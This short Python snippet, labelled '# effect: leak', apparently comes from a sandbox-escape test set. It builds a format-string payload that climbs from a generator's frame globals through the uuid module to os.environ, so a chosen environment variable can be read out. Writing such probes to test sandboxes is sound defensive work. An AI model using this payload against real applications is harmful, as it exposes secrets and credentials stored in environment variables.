# effect: leak
import uuid


def attempt(probe):
    generator = (x for x in ())
    text = "{0.gi_frame.f_globals[uuid].os.environ[" + probe["env"] + "]}"
    return text.format(generator)
